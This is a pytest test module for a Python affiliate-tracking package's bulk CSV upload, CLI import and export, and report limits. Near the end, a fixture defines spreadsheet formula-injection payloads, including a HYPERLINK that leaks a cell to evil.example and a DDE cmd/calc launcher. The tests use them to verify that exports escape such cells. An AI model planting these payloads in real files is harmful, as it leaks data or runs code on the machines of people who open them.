"""Bulk CSV: ``POST /pixels/api/conversions.csv``, ``pixel-wsgi import`` and ``export``."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import select
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from click.testing import CliRunner
from webtest import TestApp, TestRequest, TestResponse

from pixel_wsgi import PixelMiddleware, SQLiteStorage
from pixel_wsgi.cli import cli
from pixel_wsgi.cli.reporting import lines_with_progress as _lines_with_progress
from pixel_wsgi.columns import COLUMNS, formula_safe, formula_unsafe
from pixel_wsgi.endpoints.api.bulk import (
    MAX_LISTED_FAILURES,
    MAX_MESSAGE_LENGTH,
    MAX_SHOWN_CELL_LENGTH,
    MAX_SHOWN_CELLS,
)
from pixel_wsgi.models import Transaction

from .cli_helpers import Run, cli_runner
from .conftest import World, make_world, pixel_url, reasons

URL = "/pixels/api/conversions.csv"
CONVERSIONS = "/pixels/api/conversions"


def upload(
    app: TestApp,
    auth: dict[str, str],
    body: str | bytes,
    content_type: str = "text/csv",
    status: int | str = 200,
) -> TestResponse:
    data = body.encode("utf-8") if isinstance(body, str) else body
    return app.post(URL, data, headers=auth, content_type=content_type, status=status)


def ledger(storage: SQLiteStorage) -> list[dict[str, Any]]:
    return [row.as_dict() for row in storage.transactions()]


def failures(summary: dict[str, Any]) -> list[tuple[int, str, bool]]:
    return [(f["row"], f["code"], f["unmatched"]) for f in summary["failures"]]


def counts(summary: dict[str, Any]) -> dict[str, int]:
    names = ("rows", "processed", "created", "corrected", "unchanged", "unmatched", "failed")
    return {name: summary[name] for name in names}


def other_campaign_id(world: World) -> int:
    return world.storage.campaigns(advertiser_id=world.other_advertiser_id)[0].id


# -- the upload: every outcome, counted ----------------------------------------------


def test_an_upload_counts_every_outcome_with_row_numbers_and_reasons(
    app: TestApp, auth: dict[str, str], world: World
) -> None:
    pc, pub, oc = world.percent_campaign_id, world.publisher_id, other_campaign_id(world)
    text = (
        "reference_id,parent_reference_id,sale_amount,advertiser_campaign_id,affiliate_id,"
        "sku_list,quantity_list,email_address,reversal_reason\n"
        f'r1,,10.00,{pc},{pub},"a,b","1,2",buyer@example.com,\n'  # 2 created
        'r1,,10.00,,,"a, b","1,2",,\n'  # 3 unchanged (the same values)
        "r1,,12.00,,,,,,\n"  # 4 corrected
        "r2,,5.00,,,,,,\n"  # 5 unmatched: nothing to tie it to
        f"r3,,1.00,{oc},{pub},,,,\n"  # 6 unmatched: not this advertiser's campaign
        ",r9,1.00,,,,,,\n"  # 7 unmatched: no such parent
        f'r4,,"12,50",{pc},{pub},,,buyer@example.com,\n'  # 8 failed: the amount
        f'r5,,1.00,{pc},{pub},,"1,2",,\n'  # 9 failed: quantities without SKUs
        "too,few\n"  # 10 failed: cell count
        "r1,,,,,,,,customer refund\n"  # 11 corrected: the reversal
    )
    response = upload(app, auth, text)
    assert response.content_type == "application/json"
    assert "no-store" in response.headers["Cache-Control"]
    summary = response.json
    assert counts(summary) == {
        "rows": 10,
        "processed": 4,
        "created": 1,
        "corrected": 2,
        "unchanged": 1,
        "unmatched": 3,
        "failed": 3,
    }
    assert failures(summary) == [
        (5, "no_attribution", True),
        (6, "unknown_campaign", True),
        (7, "unknown_parent_reference", True),
        (8, "invalid_sale_amount", False),
        (9, "quantity_mismatch", False),
        (10, "invalid_field", False),
    ]
    assert summary["failures_not_listed"] == 0
    by_row = {failure["row"]: failure for failure in summary["failures"]}
    amount = by_row[8]
    assert amount["content"]["email_address"] == "[redacted]"
    assert amount["content"]["sale_amount"] == "12,50"
    assert amount["content"]["reference_id"] == "r4"
    assert "sale_amount" in amount["message"]
    assert by_row[10]["content"] == {"reference_id": "too", "parent_reference_id": "few"}
    assert "2 cells" in by_row[10]["message"]
    assert "buyer@example.com" not in response.text

    rows = list(world.storage.transactions())
    assert [(r.reference_id, r.transaction_type.value, str(r.sale_amount)) for r in rows] == [
        ("r1", "conversion", "10.00"),
        ("r1", "correction", "12.00"),
        ("r1", "reversal", "0.00"),
    ]
    assert rows[0].sku_list == ("a", "b") and rows[0].quantity_list == (1, 2)
    assert rows[0].source == "csv_upload"
    assert rows[2].reversal_reason == "customer refund"
    assert world.storage.personal_data(rows[0].transaction_id) == {
        "email_address": "buyer@example.com"
    }
    logged = reasons(world.storage, advertiser_id=world.advertiser_id)
    assert {"invalid_sale_amount", "quantity_mismatch", "no_attribution"} <= set(logged)


def test_uploading_the_same_file_twice_changes_nothing_the_second_time(
    app: TestApp, auth: dict[str, str], world: World
) -> None:
    pc, pub = world.percent_campaign_id, world.publisher_id
    text = (
        "reference_id,sale_amount,advertiser_campaign_id,affiliate_id,reason_code\n"
        f"a1,10.00,{pc},{pub},sale\n"
        f"a2,20.00,{pc},{pub},\n"
        "a3,1.00,,,\n"  # unmatched
        f"a4,oops,{pc},{pub},\n"  # failed
    )
    first = upload(app, auth, text).json
    assert (first["created"], first["unmatched"], first["failed"]) == (2, 1, 1)
    before = ledger(world.storage)
    second = upload(app, auth, text).json
    assert counts(second) == {
        "rows": 4,
        "processed": 2,
        "created": 0,
        "corrected": 0,
        "unchanged": 2,
        "unmatched": 1,
        "failed": 1,
    }
    assert failures(second) == failures(first)
    assert ledger(world.storage) == before


@pytest.mark.parametrize("newline", [pytest.param("\n", id="lf"), pytest.param("\r\n", id="crlf")])
def test_quoted_cells_keep_commas_quotes_and_newlines(
    app: TestApp, auth: dict[str, str], world: World, newline: str
) -> None:
    pc, pub = world.percent_campaign_id, world.publisher_id
    lines = [
        "reference_id,advertiser_campaign_id,affiliate_id,reason_code,sku_list,quantity_list",
        f'q1,{pc},{pub},"gift, ""wrapped""","[""a,1"",""b""]","3,4"',
        # A newline inside a quoted cell: one row over two lines (and refused text).
        f'q2,{pc},{pub},"two{newline}lines",x,1',
        f"q3,{pc},{pub},after,y,",
    ]
    summary = upload(app, auth, newline.join(lines) + newline).json
    assert (summary["rows"], summary["created"]) == (3, 2)
    assert failures(summary) == [(3, "invalid_text", False)]
    q1, q3 = world.storage.transactions()
    assert q1.reason_code == 'gift, "wrapped"'
    assert (q1.sku_list, q1.quantity_list) == (("a,1", "b"), (3, 4))
    assert (q3.reference_id, q3.sku_list) == ("q3", ("y",))


def test_a_bom_and_blank_lines_are_fine(app: TestApp, auth: dict[str, str], world: World) -> None:
    pc, pub = world.percent_campaign_id, world.publisher_id
    text = f"\ufeffreference_id,advertiser_campaign_id,affiliate_id\n\nb1,{pc},{pub}\n\n"
    summary = upload(app, auth, text.encode("utf-8")).json
    assert (summary["rows"], summary["created"], summary["failed"]) == (1, 1, 0)
    [row] = world.storage.transactions()
    assert row.reference_id == "b1"


def test_a_file_without_a_final_newline_is_read_whole(
    app: TestApp, auth: dict[str, str], world: World
) -> None:
    header = "reference_id,campaign_id,publisher_id"
    text = f"{header}\nn1,{world.percent_campaign_id},{world.publisher_id}"
    assert upload(app, auth, text).json["created"] == 1


@pytest.mark.parametrize(
    "content_type",
    [
        pytest.param("text/csv; charset=utf-8", id="charset"),
        pytest.param("application/csv", id="application-csv"),
        pytest.param("Text/CSV", id="case"),
    ],
)
def test_csv_media_types_are_accepted(
    app: TestApp, auth: dict[str, str], world: World, content_type: str
) -> None:
    header = "reference_id,campaign_id,publisher_id"
    text = f"{header}\nm1,{world.percent_campaign_id},{world.publisher_id}\n"
    assert upload(app, auth, text, content_type).json["created"] == 1


@pytest.mark.parametrize(
    "content_type",
    [
        pytest.param("text/plain", id="text"),
        pytest.param("application/json", id="json"),
        pytest.param("application/x-www-form-urlencoded", id="form"),
        pytest.param("multipart/form-data; boundary=x", id="multipart"),
    ],
)
def test_other_media_types_are_415(
    app: TestApp, auth: dict[str, str], world: World, content_type: str
) -> None:
    response = upload(app, auth, "reference_id\nx\n", content_type, status=415)
    assert response.json["error"]["code"] == "unsupported_media_type"
    assert list(world.storage.transactions()) == []


def test_no_content_type_is_415(app: TestApp, auth: dict[str, str]) -> None:
    request = TestRequest.blank(URL, method="POST", headers=auth)
    request.body = b"reference_id\nx\n"
    request.environ.pop("CONTENT_TYPE", None)
    response = app.do_request(request, status=415)
    assert response.json["error"]["code"] == "unsupported_media_type"


def test_a_body_without_content_length_is_411(app: TestApp, auth: dict[str, str]) -> None:
    request = TestRequest.blank(URL, method="POST", headers=auth, content_type="text/csv")
    request.environ["wsgi.input"] = io.BytesIO(b"reference_id\nx\n")
    request.environ.pop("CONTENT_LENGTH", None)
    response = app.do_request(request, status=411)
    assert response.json["error"]["code"] == "length_required"


def test_get_is_405(app: TestApp, auth: dict[str, str]) -> None:
    response = app.get(URL, headers=auth, status=405)
    assert response.headers["Allow"] == "POST"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        pytest.param(b"", "no header row", id="empty"),
        pytest.param(b"reference_id,reference_id\nx,y\n", "repeats a column", id="repeat"),
        pytest.param(b"reference_id\n\xff\xfe\n", "not UTF-8", id="not-utf8"),
    ],
)
def test_a_file_that_is_not_a_csv_of_reports_is_400(
    app: TestApp, auth: dict[str, str], body: bytes, message: str
) -> None:
    response = upload(app, auth, body, status=400)
    assert response.json["error"]["code"] == "invalid_file"
    assert message in response.json["error"]["message"]


# -- custom_data cells -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "code", "message"),
    [
        pytest.param(
            '{"sale_amount":"999"}', "invalid_field", "may not hold sale_amount", id="sale"
        ),
        pytest.param(
            '{"email_address":"a@b.example"}',
            "invalid_field",
            "may not hold email_address",
            id="personal",
        ),
        pytest.param('{"note":"x"}', "duplicate_parameter", "note", id="also-a-column"),
        pytest.param('["not","an","object"]', "invalid_field", "JSON object", id="array"),
        pytest.param('{"n":1}', "invalid_field", "JSON object", id="number-value"),
        pytest.param("{", "invalid_field", "JSON object", id="broken"),
        pytest.param('{"bad\\u0001key":"v"}', "invalid_text", "control", id="control"),
    ],
)
def test_a_custom_data_cell_is_only_ever_custom_data(
    app: TestApp, auth: dict[str, str], world: World, cell: str, code: str, message: str
) -> None:
    rows = [
        ["reference_id", "campaign_id", "publisher_id", "sale_amount", "note", "custom_data"],
        ["c1", str(world.percent_campaign_id), str(world.publisher_id), "5.00", "n", cell],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    summary = upload(app, auth, buffer.getvalue()).json
    [failure] = summary["failures"]
    assert (failure["row"], failure["code"]) == (2, code)
    assert message in failure["message"]
    assert "a@b.example" not in json.dumps(summary)
    assert list(world.storage.transactions()) == []


def test_custom_data_named_like_report_fields_stays_custom_data(
    app: TestApp, auth: dict[str, str], world: World
) -> None:
    # The pixel keeps parameters it does not know, these included, as custom data.
    custom = {"affiliate_id": "77", "reversal_reason": "no", "web_conversion": "yes", "n": "1"}
    rows = [
        ["reference_id", "campaign_id", "publisher_id", "sale_amount", "custom_data"],
        [
            "k1",
            str(world.percent_campaign_id),
            str(world.publisher_id),
            "5.00",
            json.dumps(custom),
        ],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    assert upload(app, auth, buffer.getvalue()).json["created"] == 1
    [row] = world.storage.transactions()
    assert row.custom_data == custom
    assert (row.publisher_id, row.reversal_reason) == (world.publisher_id, None)


# -- export and import -------------------------------------------------------------------


@pytest.fixture
def varied_ledger(app: TestApp, auth: dict[str, str], world: World) -> None:
    """Rows of every kind and source, with the awkward values a CSV must carry."""
    app.get(f"/pixels/click/{world.percent_link_id}", status=302)
    pixel = (
        "reference_id=P1&sale_amount=19.99&sku_list[]=%20padded&sku_list[]=with,comma"
        "&quantity_list[]=1&quantity_list[]=2&reason_code=a%2C%20b&note=line&affiliate_id=77"
        "&email_address=buyer%40example.com"
    )
    assert app.get(pixel_url(world.advertiser_id, pixel)).status_int == 200
    # A pixel update from the same visit, and a conversion without a reference_id.
    app.get(pixel_url(world.advertiser_id, "parent_reference_id=P1&sale_amount=25.00"))
    app.get(pixel_url(world.advertiser_id, "sale_amount=3.00"))
    app.get(f"/tracked_actions/web_sale/{world.advertiser_id}?amount=4.00&external_data=legacy")
    api = {
        "advertiser_campaign_id": str(world.percent_campaign_id),
        "affiliate_id": str(world.publisher_id),
    }
    app.post(CONVERSIONS, {"reference_id": "R1", "sale_amount": "10.00", **api}, headers=auth)
    app.post(CONVERSIONS, {"reference_id": "R1", "sale_amount": "12.50"}, headers=auth)
    app.post(CONVERSIONS, {"reference_id": "R1", "reversal_reason": "refund"}, headers=auth)
    # New values bring it back (the same report again would change nothing): a
    # negative amount claws back part of an existing conversion.
    app.post(CONVERSIONS, {"reference_id": "R1", "sale_amount": "-2.50"}, headers=auth)
    app.post(CONVERSIONS, {"reference_id": "R2", "sale_amount": "5.00", **api}, headers=auth)
    app.post_json(
        CONVERSIONS,
        {
            "reference_id": "J1",
            "sale_amount": "7.25",
            "sale_currency": "EUR",
            "advertiser_campaign_id": world.fixed_campaign_id,
            "affiliate_id": world.publisher_id,
            "reason_code": "renewal",
            "custom_data": {"channel": "e-mail", "quote": 'say "hi"'},
        },
        headers=auth,
    )
    kinds = [row.transaction_type.value for row in world.storage.transactions()]
    assert kinds == [
        "conversion",
        "correction",
        "conversion",
        "conversion",
        "conversion",
        "correction",
        "reversal",
        "correction",
        "conversion",
        "conversion",
    ]


def export(run: Run, advertiser_id: int, path: Path, form: str = "csv") -> Path:
    result = run("export", "--advertiser", str(advertiser_id), "--format", form, "-o", str(path))
    assert result.exit_code == 0, result.output
    return path


def transactions_json(run: Run) -> Any:
    result = run("transactions", "--json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_export_writes_the_columns_of_the_transactions_api(
    app: TestApp, auth: dict[str, str], world: World, varied_ledger: None, run: Run, tmp_path: Path
) -> None:
    exported = export(run, world.advertiser_id, tmp_path / "ledger.csv").read_bytes()
    from_api = app.get("/pixels/api/transactions.csv?limit=4000", headers=auth).body
    assert exported == from_api
    header = next(csv.reader(io.StringIO(exported.decode())))
    assert header == list(COLUMNS)


def test_export_json_equals_the_transactions_api_json(
    app: TestApp, auth: dict[str, str], world: World, varied_ledger: None, run: Run, tmp_path: Path
) -> None:
    exported = json.loads(export(run, world.advertiser_id, tmp_path / "l.json", "json").read_text())
    from_api = app.get("/pixels/api/transactions.json?limit=4000", headers=auth).json
    assert exported == from_api
    assert len(exported) == 10


def test_export_then_import_into_the_same_store_changes_nothing(
    app: TestApp, auth: dict[str, str], world: World, varied_ledger: None, run: Run, tmp_path: Path
) -> None:
    path = export(run, world.advertiser_id, tmp_path / "ledger.csv")
    before = transactions_json(run)
    result = run("import", str(path), "--advertiser", str(world.advertiser_id), "--json")
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert counts(summary) == {
        "rows": 10,
        "processed": 10,
        "created": 0,
        "corrected": 0,
        "unchanged": 10,
        "unmatched": 0,
        "failed": 0,
    }
    assert transactions_json(run) == before
    # The same file through the API: the same answer.
    assert counts(upload(app, auth, path.read_bytes()).json) == counts(summary)
    assert transactions_json(run) == before


def test_an_exported_row_edited_is_refused_as_immutable(
    app: TestApp, auth: dict[str, str], world: World, varied_ledger: None, run: Run, tmp_path: Path
) -> None:
    path = export(run, world.advertiser_id, tmp_path / "ledger.csv")
    table = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    table[1]["sale_amount"] = "99.00"  # the pixel's correction row, now file row 3
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(COLUMNS), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(table)
    before = ledger(world.storage)
    summary = upload(app, auth, buffer.getvalue()).json
    assert (summary["unchanged"], summary["failed"]) == (9, 1)
    [failure] = summary["failures"]
    assert (failure["row"], failure["code"], failure["unmatched"]) == (
        3,
        "immutable_transaction",
        False,
    )
    assert failure["content"]["sale_amount"] == "99.00"
    assert ledger(world.storage) == before
    assert "immutable_transaction" in reasons(world.storage)


CURRENT_VALUES = (
    "transaction_type",
    "campaign_id",
    "publisher_id",
    "sale_amount",
    "sale_currency",
    "reason_code",
    "sku_list",
    "quantity_list",
    "custom_data",
    "payout",
    "payout_currency",
    "reversal_reason",
)


def current(rows: list[Transaction]) -> dict[str, dict[str, Any]]:
    """Each conversion's current values, by reference_id."""
    return {
        row.reference_id: {name: row.as_dict()[name] for name in CURRENT_VALUES}
        for row in rows
        if row.reference_id is not None
    }


def test_export_from_one_store_imports_into_a_fresh_one(
    world: World, varied_ledger: None, run: Run, tmp_path: Path
) -> None:
    path = export(run, world.advertiser_id, tmp_path / "ledger.csv")
    fresh = SQLiteStorage(tmp_path / "fresh.db")
    fresh.migrate()
    make_world(fresh)  # the same catalog, so the same ids
    try:
        result = cli_runner(f"sqlite:///{tmp_path / 'fresh.db'}")(
            "import", str(path), "--advertiser", str(world.advertiser_id), "--json"
        )
        # The two conversions without a reference_id cannot be restated: they fail, loudly.
        assert result.exit_code == 1
        summary = json.loads(result.stdout)
        assert failures(summary) == [(4, "missing_field", False), (5, "missing_field", False)]
        assert (summary["created"], summary["corrected"]) == (4, 4)
        expected = current(list(world.storage.conversions(advertiser_id=world.advertiser_id)))
        assert current(list(fresh.conversions())) == expected
        assert set(expected) == {"P1", "R1", "R2", "J1"}
        assert expected["P1"]["sku_list"] == [" padded", "with,comma"]
        assert expected["P1"]["custom_data"] == {"note": "line", "affiliate_id": "77"}
        # Every row of a conversion was restated: the chains have the same shape.
        assert [r.transaction_type for r in fresh.transactions()] == [
            r.transaction_type
            for r in world.storage.transactions(advertiser_id=world.advertiser_id)
            if r.reference_id is not None
        ]
    finally:
        fresh.close()


# -- the command line ------------------------------------------------------------------


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_import_prints_the_counts_and_each_failure(world: World, run: Run, tmp_path: Path) -> None:
    pc, pub = world.percent_campaign_id, world.publisher_id
    path = write(
        tmp_path / "in.csv",
        f"reference_id,campaign_id,publisher_id,sale_amount\ni1,{pc},{pub},1.00\ni2,,,2.00\n",
    )
    result = run("import", str(path), "--advertiser", str(world.advertiser_id))
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "2 rows: 1 created, 0 corrected, 0 unchanged, 1 unmatched, 0 failed.",
        "  row 3: no_attribution: no earlier conversion has this reference_id, so a new one"
        " needs advertiser_campaign_id and affiliate_id",
    ]
    # Not a terminal: the progress bar shows only its label.
    assert result.stderr == "Importing\n"
    again = run("import", str(path), "--advertiser", str(world.advertiser_id), "--json")
    assert again.exit_code == 1
    assert again.stderr == ""
    assert counts(json.loads(again.stdout))["unchanged"] == 1


def test_import_exits_0_when_every_row_took_effect(world: World, run: Run, tmp_path: Path) -> None:
    path = write(
        tmp_path / "in.csv",
        f"reference_id,campaign_id,publisher_id\ni1,{world.percent_campaign_id},{world.publisher_id}\n",
    )
    result = run("import", str(path), "--advertiser", str(world.advertiser_id), "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["created"] == 1


def test_import_reads_standard_input(world: World, db_path: Path) -> None:
    header = "\ufeffreference_id,campaign_id,publisher_id"
    text = f"{header}\ns1,{world.percent_campaign_id},{world.publisher_id}\n"
    result = CliRunner().invoke(
        cli,
        [
            "--storage",
            f"sqlite:///{db_path}",
            "import",
            "-",
            "--advertiser",
            str(world.advertiser_id),
        ],
        input=text.encode("utf-8"),
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("1 rows: 1 created,")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param(
            b"", "Error: not a CSV of reports: report: the file has no header row\n", id="empty"
        ),
        pytest.param(b"reference_id\n\xff\n", "the file is not UTF-8", id="not-utf8"),
    ],
)
def test_import_of_a_bad_file_is_one_error_line(
    world: World, run: Run, tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    result = run("import", str(path), "--advertiser", str(world.advertiser_id), "--json")
    assert result.exit_code == 1
    assert message in result.stderr
    assert "Traceback" not in result.output


def test_import_for_a_missing_advertiser_fails(run: Run, world: World, tmp_path: Path) -> None:
    path = write(tmp_path / "in.csv", "reference_id\nx\n")
    result = run("import", str(path), "--advertiser", "999")
    assert (result.exit_code, result.stderr) == (1, "Error: no advertiser with id 999\n")


# -- the progress bar ------------------------------------------------------------------


ESCAPES = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")  # cursor hide/show around the bar


class FakeTerminal(io.StringIO):
    """A stderr that says it is a terminal, so that click draws the bar into it."""

    def isatty(self) -> bool:
        return True


def test_the_progress_bar_advances_with_the_bytes_read(monkeypatch: pytest.MonkeyPatch) -> None:
    # The bar advances per chunk read (64 KiB): a file of some 20 chunks.
    data = b"\xef\xbb\xbfreference_id\n" + b"".join(b"row-%06d\n" % i for i in range(130_000))
    terminal = FakeTerminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    lines = list(_lines_with_progress(io.BytesIO(data), len(data), show=True))
    assert lines[0] == "reference_id\n"  # the BOM is gone
    assert len(lines) == 130_001 and lines[-1] == "row-129999\n"
    frames = [frame for frame in ESCAPES.sub("", terminal.getvalue()).split("\r") if frame]
    assert all(frame.startswith("Importing  [") for frame in frames)
    percents = [int(frame.split("%")[0].split()[-1]) for frame in frames]
    assert percents == sorted(percents) and len(set(percents)) > 10
    assert percents[0] == 0 and percents[-1] == 100


def test_the_progress_bar_is_hidden_for_json_or_unknown_sizes(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    terminal = FakeTerminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    data = b"a\nb\n"
    assert list(_lines_with_progress(io.BytesIO(data), len(data), show=False)) == ["a\n", "b\n"]
    assert list(_lines_with_progress(io.BytesIO(data), None, show=True)) == ["a\n", "b\n"]
    assert terminal.getvalue() == ""


@pytest.mark.skipif(sys.platform == "win32", reason="pseudo-terminals are POSIX")
def test_import_draws_a_progress_bar_on_a_real_terminal(
    world: World, db_path: Path, tmp_path: Path
) -> None:
    import pty

    pc, pub = world.percent_campaign_id, world.publisher_id
    path = write(
        tmp_path / "in.csv",
        "reference_id,campaign_id,publisher_id\n"
        + "".join(f"t{i},{pc},{pub}\n" for i in range(300)),
    )
    controller, terminal = pty.openpty()
    command = [
        sys.executable,
        "-m",
        "pixel_wsgi",
        "--storage",
        f"sqlite:///{db_path}",
        "import",
        str(path),
        "--advertiser",
        str(world.advertiser_id),
    ]
    process = subprocess.Popen(
        command,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=terminal,
        env={**os.environ, "COLUMNS": "100"},
    )
    os.close(terminal)
    drawn = b""
    deadline = time.monotonic() + 60
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([controller], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(controller, 65536)
                except OSError:  # the terminal closed: the process is gone
                    break
                if not chunk:
                    break
                drawn += chunk
            elif process.poll() is not None:
                break
        stdout, _ = process.communicate(timeout=30)
    finally:
        os.close(controller)
        if process.poll() is None:
            process.kill()
            process.wait(timeout=10)
    assert process.returncode == 0, drawn.decode(errors="replace")
    assert stdout.decode().startswith("300 rows: 300 created,")
    frames = drawn.decode().split("\r")
    assert any("Importing" in frame and "100%" in frame for frame in frames)
    assert any("Importing" in frame and "#" in frame for frame in frames)


# -- known bugs outside this module's files (api/conversions.py) -----------------------


class LazyBody(io.RawIOBase):
    """A request body made as it is read: ``head``, then ``size`` bytes of ``a``."""

    def __init__(self, head: bytes, size: int) -> None:
        self.head = head
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        if self.head:
            data, self.head = self.head[: len(buffer)], self.head[len(buffer) :]
        else:
            data = b"a" * min(len(buffer), self.left)
            self.left -= len(data)
        buffer[: len(data)] = data
        return len(data)


def call_upload(
    middleware: PixelMiddleware, auth: dict[str, str], body: io.RawIOBase, length: int
) -> tuple[str, dict[str, str], bytes]:
    """POST to the upload route straight through the middleware (no WebTest, no lint:
    the body need not match its Content-Length)."""
    environ = {
        "REQUEST_METHOD": "POST",
        "SCRIPT_NAME": "",
        "PATH_INFO": URL,
        "QUERY_STRING": "",
        "SERVER_NAME": "localhost",
        "SERVER_PORT": "80",
        "SERVER_PROTOCOL": "HTTP/1.1",
        "CONTENT_TYPE": "text/csv",
        "CONTENT_LENGTH": str(length),
        "HTTP_AUTHORIZATION": auth["Authorization"],
        "wsgi.input": io.BufferedReader(body),
        "wsgi.url_scheme": "http",
        "wsgi.errors": io.StringIO(),
    }
    answer: dict[str, Any] = {}

    def start_response(status: str, headers: list[tuple[str, str]], exc_info: Any = None) -> Any:
        answer["status"], answer["headers"] = status, dict(headers)

    content = b"".join(middleware(environ, start_response))
    return answer["status"], answer["headers"], content


def test_an_endless_line_is_refused_in_bounded_memory(
    middleware: PixelMiddleware, auth: dict[str, str]
) -> None:
    head = b'reference_id\n"'
    size = 16 * 1024 * 1024
    tracemalloc.start()
    try:
        status, _, content = call_upload(middleware, auth, LazyBody(head, size), len(head) + size)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert status in ("200 OK", "400 Bad Request"), content
    assert peak < 4 * 1024 * 1024, f"peak {peak / 2**20:.1f} MiB for a 16 MiB line"


def test_a_body_shorter_than_its_content_length_is_a_json_400(
    middleware: PixelMiddleware, auth: dict[str, str]
) -> None:
    body = LazyBody(b"reference_id\nx\n", 0)
    status, headers, content = call_upload(middleware, auth, body, 1000)
    assert status == "400 Bad Request", content
    assert headers["Content-Type"] == "application/json"
    assert json.loads(content)["error"]["code"]


# -- bounded reports (issue 9) -----------------------------------------------------------


def test_a_file_of_wide_failing_rows_gets_a_bounded_report(
    app: TestApp, auth: dict[str, str], world: World
) -> None:
    # Issue 9: 300 failing rows of 2,000 columns answered 11 MB of report.
    columns, failing = 1000, MAX_LISTED_FAILURES + 10
    header = ",".join(["reference_id", *(f"extra_column_{i:04d}" for i in range(columns - 1))])
    rows = [",".join([f"r{n}", *(["x" * 40] * (columns - 1))]) for n in range(failing)]
    body = "\n".join([header, *rows]) + "\n"
    response = upload(app, auth, body)
    summary = response.json
    assert (summary["rows"], summary["failed"]) == (failing, failing)
    assert len(summary["failures"]) == MAX_LISTED_FAILURES
    assert summary["failures_not_listed"] == failing - MAX_LISTED_FAILURES
    first = summary["failures"][0]
    assert first["code"] == "too_many_custom_fields"
    assert len(first["content"]) == MAX_SHOWN_CELLS
    assert first["cells_not_shown"] == columns - MAX_SHOWN_CELLS
    assert first["content"]["reference_id"] == "r0"
    # The file was 4.5 MB; the report is a small fraction of one (it was 9 MB).
    assert len(response.body) < 300_000, len(response.body)


def test_long_cells_and_messages_are_cut_in_a_report(
    app: TestApp, auth: dict[str, str], world: World
) -> None:
    names = [f"c{i}" for i in range(60)]
    header = ",".join(["reference_id", "sale_amount", *names])
    row = ",".join(["r1", "1" * 5000, *(["\x01"] * len(names))])
    summary = upload(app, auth, f"{header}\n{row}\n").json
    [failure] = summary["failures"]
    assert failure["content"]["sale_amount"] == "1" * (MAX_SHOWN_CELL_LENGTH - 3) + "..."
    assert len(failure["message"]) == MAX_MESSAGE_LENGTH
    assert failure["message"].endswith("...")


@pytest.mark.parametrize("column", ["sku_list", "custom_data"])
def test_a_deeply_nested_json_cell_is_a_failed_row_not_a_recursion_error(
    app: TestApp, auth: dict[str, str], world: World, column: str
) -> None:
    cell = "[" * 100_000 + "]" * 100_000
    summary = upload(app, auth, f"reference_id,{column}\nr1,{cell}\n").json
    assert failures(summary) == [(2, "invalid_field", False)]


# -- formula injection (issue 9) ---------------------------------------------------------

FORMULAS = {
    "reference_id": '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
    "reason_code": "+cmd|' /C calc'!A0",
    "sku_list[]": "@SUM(1+1)",
    "note": "-2+3",
}


@pytest.fixture
def formula_ledger(app: TestApp, auth: dict[str, str], world: World) -> None:
    """A visitor's pixel and a server report whose text a spreadsheet would run."""
    app.get(f"/pixels/click/{world.percent_link_id}", status=302)
    query = urlencode({**FORMULAS, "sale_amount": "10.00"})
    assert app.get(pixel_url(world.advertiser_id, query)).status_int == 200
    server = {
        "reference_id": "'=already quoted",
        "sale_amount": "5.00",
        "advertiser_campaign_id": str(world.percent_campaign_id),
        "affiliate_id": str(world.publisher_id),
        "reason_code": "-refund",
    }
    assert app.post(CONVERSIONS, server, headers=auth).status_int == 201
    assert len(list(world.storage.transactions())) == 2


def test_exports_guard_cells_a_spreadsheet_would_run(
    app: TestApp,
    auth: dict[str, str],
    world: World,
    formula_ledger: None,
    run: Run,
    tmp_path: Path,
) -> None:
    exported = export(run, world.advertiser_id, tmp_path / "ledger.csv").read_bytes()
    from_api = app.get("/pixels/api/transactions.csv", headers=auth).body
    assert exported == from_api
    pixel_row, server_row = csv.DictReader(io.StringIO(exported.decode("utf-8")))
    assert pixel_row["reference_id"] == "'" + FORMULAS["reference_id"]
    assert pixel_row["reason_code"] == "'" + FORMULAS["reason_code"]
    assert pixel_row["sku_list"] == "'" + FORMULAS["sku_list[]"]
    assert pixel_row["custom_data"] == '{"note":"-2+3"}'  # starts with "{": no formula
    assert server_row["reference_id"] == "''=already quoted"
    assert server_row["reason_code"] == "'-refund"
    for row in (pixel_row, server_row):
        for column, cell in row.items():
            if column not in ("sale_amount", "payout"):
                assert not cell.startswith(("=", "+", "-", "@")), (column, cell)


def test_a_guarded_export_imports_back_exactly(
    app: TestApp,
    auth: dict[str, str],
    world: World,
    formula_ledger: None,
    run: Run,
    tmp_path: Path,
) -> None:
    path = export(run, world.advertiser_id, tmp_path / "ledger.csv")
    # Into the same store: every row is recognised as unchanged.
    again = upload(app, auth, path.read_bytes()).json
    assert (again["unchanged"], again["failed"], again["created"]) == (2, 0, 0)
    # Into a fresh store: the values come back as they were, not with the guard.
    fresh = SQLiteStorage(tmp_path / "fresh.db")
    fresh.migrate()
